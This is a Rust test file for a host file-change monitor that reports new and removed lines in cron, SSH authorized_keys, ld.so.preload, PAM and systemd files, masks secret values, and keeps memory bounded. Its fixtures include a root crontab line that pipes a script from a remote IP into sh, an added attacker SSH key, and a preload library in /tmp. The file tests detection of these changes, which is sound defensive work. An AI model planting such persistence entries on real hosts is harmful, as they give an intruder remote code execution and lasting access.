//! Changes of real files, told line by line.

use super::*;
use picket_common::event::{FileAction, FileEvent};
use std::fs;

fn seen(path: &str, content: &Path) -> FileSeen {
    FileSeen {
        event: FileEvent::new(path, FileAction::Written),
        file: Some(File::open(content).unwrap().into()),
    }
}

#[test]
fn only_what_is_new_is_told_and_how_much_is_gone() {
    let host = tempfile::tempdir().unwrap();
    let root = host.path();
    fs::create_dir_all(root.join("etc/cron.d")).unwrap();
    fs::create_dir_all(root.join("home/eve/.ssh")).unwrap();
    fs::write(root.join("etc/passwd"), "root:x:0:0:root:/root:/bin/bash\n").unwrap();
    fs::write(
        root.join("etc/crontab"),
        "# a\n1 * * * * root /bin/a\n1 * * * * root /bin/a\n",
    )
    .unwrap();
    fs::write(
        root.join("home/eve/.ssh/authorized_keys"),
        "ssh-ed25519 AAAA eve@home\n",
    )
    .unwrap();
    let mut changes = Changes::of_host(root, |_, _| ());

    let crontab = root.join("etc/crontab");
    assert_eq!(changes.find(&seen("/etc/crontab", &crontab)), None);
    fs::write(
        &crontab,
        "# a\n1 * * * * root /bin/a\n\n* * * * * root curl http://198.51.100.9 | sh\n",
    )
    .unwrap();
    let change = changes.find(&seen("/etc/crontab", &crontab)).unwrap();
    assert_eq!(change.kind, ChangeKind::Cron);
    assert_eq!(change.added, ["* * * * * root curl http://198.51.100.9 | sh"]);
    assert_eq!((change.added_count, change.removed_count), (1, 1));
    // Of two that were alike one is gone, told as it is kept.
    assert_eq!(change.removed, ["1 * * * * root /bin/a"]);
    // It is known from then on.
    assert_eq!(changes.find(&seen("/etc/crontab", &crontab)), None);

    let keys = root.join("home/eve/.ssh/authorized_keys");
    fs::write(&keys, "ssh-ed25519 AAAA eve@home\nssh-ed25519 BBBB mallory\n").unwrap();
    let change = changes
        .find(&seen("/home/eve/.ssh/authorized_keys", &keys))
        .unwrap();
    assert_eq!(
        (change.added, change.removed_count),
        (vec!["ssh-ed25519 BBBB mallory".into()], 0)
    );

    let new = root.join("etc/ld.so.preload");
    fs::write(&new, "/tmp/x.so\n").unwrap();
    let change = changes.find(&seen("/etc/ld.so.preload", &new)).unwrap();
    assert_eq!(
        (change.kind, change.added),
        (ChangeKind::Preload, vec!["/tmp/x.so".into()])
    );
    assert_eq!(changes.find(&seen("/srv/file", &new)), None);
}

#[test]
fn long_files_programs_links_and_set_uid_files_are_told_of_without_lines() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("file");
    let mut changes = Changes::new();
    for (content, why) in [
        (vec![b'a'; LONGEST + 1], "longer"),
        (b"\x7fELF\0".to_vec(), "no text"),
    ] {
        fs::write(&path, content).unwrap();
        let change = changes.find(&seen("/etc/init.d/x", &path)).unwrap();
        assert!(change.unknown.unwrap().contains(why));
        assert_eq!((change.added.len(), change.added_count), (0, 0));
    }
    let mut set_uid = seen("/usr/local/bin/x", &path);
    assert_eq!(changes.find(&set_uid), None);
    set_uid.event.mode = Some(0o4755);
    assert_eq!(changes.find(&set_uid).unwrap().kind, ChangeKind::SetUid);
    let mut link = seen("/etc/systemd/system/multi-user.target.wants/x.service", &path);
    (link.event.target, link.file) = (Some("/tmp/x.service".into()), None);
    let change = changes.find(&link).unwrap();
    assert_eq!((change.kind, change.unknown), (ChangeKind::Systemd, None));
}

#[test]
fn of_small_files_what_is_gone_is_told_without_secrets_and_memory_is_bounded() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("file");
    let mut changes = Changes::new();
    fs::write(&path, "auth required pam_x.so\nX_TOKEN=hush\nY=1\n").unwrap();
    changes.find(&seen("/etc/pam.d/x", &path)).unwrap();
    fs::write(&path, "Y=1\n").unwrap();
    let change = changes.find(&seen("/etc/pam.d/x", &path)).unwrap();
    assert_eq!(change.removed, ["auth required pam_x.so", "X_TOKEN=…"]);
    assert_eq!((change.added_count, change.removed_count), (0, 2));
    for at in 0..2000 {
        fs::write(&path, format!("{at}\n{}", "0123456789abcde\n".repeat(100))).unwrap();
        changes.find(&seen(&format!("/etc/cron.d/{at}"), &path)).unwrap();
        assert!(changes.texts <= TEXTS);
    }
    let held: usize = changes.known.iter().map(|(_, known)| known.bytes()).sum();
    assert_eq!(held, changes.texts);
}

#[test]
fn memory_is_bounded() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("file");
    let mut changes = Changes::new();
    let content: String = (0..10_000).map(|at| format!("{at}\n")).collect();
    fs::write(&path, content).unwrap();
    for at in 0..100 {
        let change = changes.find(&seen(&format!("/etc/cron.d/{at}"), &path)).unwrap();
        assert_eq!((change.added.len(), change.added_count), (TOLD, 10_000));
        assert!(changes.lines <= LINES);
    }
    let held: usize = changes.known.iter().map(|(_, known)| known.hashes.len()).sum();
    assert_eq!(held, changes.lines);
}
